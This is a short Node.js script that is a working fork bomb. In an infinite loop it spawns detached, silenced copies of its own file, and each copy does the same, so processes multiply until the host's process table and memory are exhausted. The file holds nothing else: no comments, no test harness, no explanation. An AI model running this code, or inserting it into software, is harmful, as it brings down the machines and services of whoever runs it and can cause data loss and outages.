const { fork } = require('child_process');

function go() {
  for (;;) {
    fork(__filename, [], { detached: true, stdio: 'ignore' }).unref();
  }
}
go();
